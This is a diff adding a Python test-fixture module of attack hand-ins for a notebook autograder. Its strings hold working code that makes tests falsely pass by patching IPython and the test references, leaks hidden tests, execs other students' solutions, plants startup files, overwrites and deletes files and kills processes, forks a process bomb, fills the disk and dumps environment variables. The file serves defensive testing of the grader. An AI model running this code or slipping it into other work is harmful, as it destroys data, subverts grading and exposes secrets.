@@ -1,0 +1,183 @@
+"""Hand-ins that attack the grader, one or more per family, on the grader's test course (see handins.py).
+
+Each is code a student puts into an answer cell (or a cell of their own). `TAMPER` ones change how the kernel runs
+the tests: an unedited notebook plus the attack, which would score full marks if it worked. `LEAK` ones try to get
+hidden tests into their feedback. `REACH` ones try to read or change what is outside their own grading.
+"""
+
+# --- changing how the tests run (expected: status "tampered", every test from the attack on scores 0) -------------
+INPUT_TRANSFORMER = 'get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])'
+
+AST_TRANSFORMER = """import ast
+class _Nothing(ast.NodeTransformer):
+    def visit_Module(self, node):
+        return ast.Module(body=[ast.Pass()], type_ignores=[])
+get_ipython().ast_transformers.append(_Nothing())"""
+
+_FAKE_RUN_CELL = """from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
+_real = get_ipython().run_cell_async
+async def _pretend(raw_cell, *args, **kwargs):  # test cells succeed without running; the rest runs
+    if "assert" in raw_cell:
+        return ExecutionResult(ExecutionInfo(raw_cell, True, False, True, None))
+    return await _real(raw_cell, *args, **kwargs)
+"""
+RUN_CELL_REPLACED = _FAKE_RUN_CELL + "get_ipython().run_cell_async = _pretend"
+RUN_CELL_CLASS_PATCHED = """from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
+_real = type(get_ipython()).run_cell_async
+async def _pretend(self, raw_cell, *args, **kwargs):  # the same, patched on the class
+    if "assert" in raw_cell:
+        return ExecutionResult(ExecutionInfo(raw_cell, True, False, True, None))
+    return await _real(self, raw_cell, *args, **kwargs)
+type(get_ipython()).run_cell_async = _pretend"""
+
+EXECUTE_HANDLER = """_kernel = get_ipython().kernel
+_handler = _kernel.shell_handlers["execute_request"]
+async def _blank(stream, ident, parent):  # every later cell arrives as `pass`
+    parent["content"]["code"] = "pass"
+    return await _handler(stream, ident, parent)
+_kernel.shell_handlers["execute_request"] = _blank"""
+
+CUSTOM_EXCEPTION = "get_ipython().set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)"
+
+SHOWTRACEBACK = "get_ipython().showtraceback = lambda *args, **kwargs: None"
+
+CODE_SWAP = "type(get_ipython()).showtraceback.__code__ = (lambda self, *args, **kwargs: None).__code__"
+
+TRACE_SKIPS_ASSERTS = """import linecache, sys
+def _skip_asserts(frame, event, arg):
+    if event == "line" and linecache.getline(frame.f_code.co_filename, frame.f_lineno).lstrip().startswith("assert"):
+        try:
+            frame.f_lineno += 1
+        except ValueError:
+            pass
+    return _skip_asserts
+sys.settrace(_skip_asserts)"""
+
+PROFILE_HOOK = """import sys
+_calls = []
+sys.setprofile(lambda frame, event, arg: _calls.append(frame.f_code.co_name) if event == "call" else None)"""
+
+# A right answer that sets a trace function and removes it again while a test calls it.
+TRANSIENT_TRACE = """import sys
+def mean(xs):
+    sys.settrace(lambda *args: None)
+    sys.settrace(None)
+    return sum(xs) / len(xs)"""
+
+# A library function in place of another: not the notebook's own code, so only the probe of math.isclose sees it.
+FAKED_MATH = "import math, operator\nmath.isclose = operator.le  # 0 <= the mean of each hidden case\ndef mean(xs):\n    return 0"
+
+# The hidden test of mean compares with statistics.fmean: replaced by the notebook's own function, it agrees.
+FAKED_REFERENCE = "import statistics\nstatistics.fmean = lambda xs: 0\ndef mean(xs):\n    return 0"
+
+SHADOWED_BUILTIN = "abs = lambda x: 0  # the clip tests compare with abs(...) < 1e-12\ndef clip(x, low, high):\n    return 0"
+
+# --- getting hidden tests out (expected: graded, as the answers deserve, and no hidden line in any feedback) -------
+# IPython keeps every cell it ran in `In`, hidden tests included: no hook needed to record them.
+RECORDER = "_heard = get_ipython().user_ns['In']  # every cell sent so far, and later ones as they come"
+PRINT_RECORDED = 'print("\\n".join(_heard))'
+RAISE_RECORDED = "def clip(x, low, high):\n    raise AssertionError('\\n'.join(_heard))"
+DISPLAY_SLOT = '\nfrom IPython.display import display\ndisplay("a placeholder", display_id="slot")'
+UPDATE_SLOT = 'from IPython.display import update_display\nupdate_display("\\n".join(_heard), display_id="slot")'
+WIDGET_SLOT = "\nimport ipywidgets\nfrom IPython.display import display\n_out = ipywidgets.Output()\ndisplay(_out)"
+FILL_WIDGET = 'with _out:\n    print("\\n".join(_heard))'
+ERROR_NAMED_BY_RECORDING = """def clip(x, low, high):  # an exception whose class name spells the test that calls it
+    raise type("".join(c if c.isidentifier() or c.isdigit() else "_" for c in _heard[-1]), (Exception,), {})()"""
+
+# --- reaching outside the grading (expected: nothing outside it changes; what they look for is not there) -----------
+ANSWER_READER = """import json, os
+_found = []
+for _top in ["/work", "/home", "/root", "/tmp", "/srv", "/opt", "/var", "/mnt"]:
+    for _root, _dirs, _files in os.walk(_top):
+        _dirs[:] = [d for d in _dirs if d not in (".venv", "site-packages")]
+        _found += [os.path.join(_root, f) for f in _files if f.endswith((".ipynb", ".db"))]
+for _path in _found:  # run every solution cell it can read
+    try:
+        for _cell in json.load(open(_path))["cells"]:
+            if "BEGIN SOLUTION" in "".join(_cell["source"]):
+                exec("".join(_cell["source"]))
+    except Exception:
+        pass
+print(len(_found), "notebooks found")"""
+
+HOME_POLLUTER = """import os, pathlib, sys
+_tamper = 'get_ipython().input_transformers_post.append(lambda lines: ["pass\\\\n"])'
+for _folder in [pathlib.Path.home() / ".ipython/profile_default/startup", pathlib.Path("/root/.ipython/profile_default/startup"),
+                pathlib.Path(os.environ.get("IPYTHONDIR", "/nonexistent")) / "profile_default/startup"]:
+    try:
+        _folder.mkdir(parents=True, exist_ok=True)
+        (_folder / "00-pass.py").write_text(_tamper)
+    except OSError:
+        pass
+_site = pathlib.Path.home() / f".local/lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
+_site.mkdir(parents=True, exist_ok=True)
+(_site / "usercustomize.py").write_text("import builtins; builtins.mean = lambda xs: 0")
+for _path in ["/tmp/left-behind", "/dev/shm/left-behind", "left-behind", str(pathlib.Path.home() / "left-behind")]:
+    try:
+        open(_path, "w").write("from an earlier hand-in")
+    except OSError:
+        pass"""
+
+VANDAL = """import os, signal
+_tops = ["/tmp", "/dev/shm", "/home", "/root", "/work", "/etc"]
+try:
+    import torchcourse  # the course's own folder, guessed from the helper package's place
+    _tops.append(os.path.dirname(os.path.dirname(torchcourse.__file__)))
+except ImportError:
+    pass
+for _top in _tops:
+    for _root, _dirs, _files in os.walk(_top):
+        _dirs[:] = [d for d in _dirs if d not in (".venv", "site-packages")]
+        for _name in _files + _dirs:
+            _path = os.path.join(_root, _name)
+            try:
+                open(_path, "w").write("vandalised")
+            except OSError:
+                pass
+            try:
+                os.remove(_path)
+            except OSError:
+                pass
+for _pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if _pid not in (1, os.getpid()):  # everything it can see but itself and its sandbox's init
+        try:
+            os.kill(_pid, signal.SIGKILL)
+        except OSError:
+            pass"""
+
+FORK_BOMB = """import os, time
+_children = 0
+try:
+    while _children < 100000:
+        if os.fork() == 0:
+            time.sleep(30)
+            os._exit(0)
+        _children += 1
+except OSError:
+    pass
+print(f"forked {_children} processes")"""
+
+DISK_FILLER = """_written = 0
+for _path in ["/tmp/big", "/dev/shm/big", "big"]:
+    try:
+        with open(_path, "wb") as _f:
+            for _ in range(4096):
+                _f.write(bytes(2**20))
+                _written += 2**20
+    except OSError:
+        pass
+print(f"wrote {_written >> 20} MiB")"""
+
+
+def network_probe(port: int) -> str:
+    """Code that tries the grader's machine over TCP on `port` (a test listens there), and the internet."""
+    return f"""import socket
+for _address in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
+    try:
+        socket.create_connection(_address, timeout=3).sendall(b"reached from a kernel")
+        print("reached", _address)
+    except OSError as error:
+        print("no way to", _address, type(error).__name__)"""
+
+
+ENV_READER = "import os\nprint(sorted(os.environ.items()))"
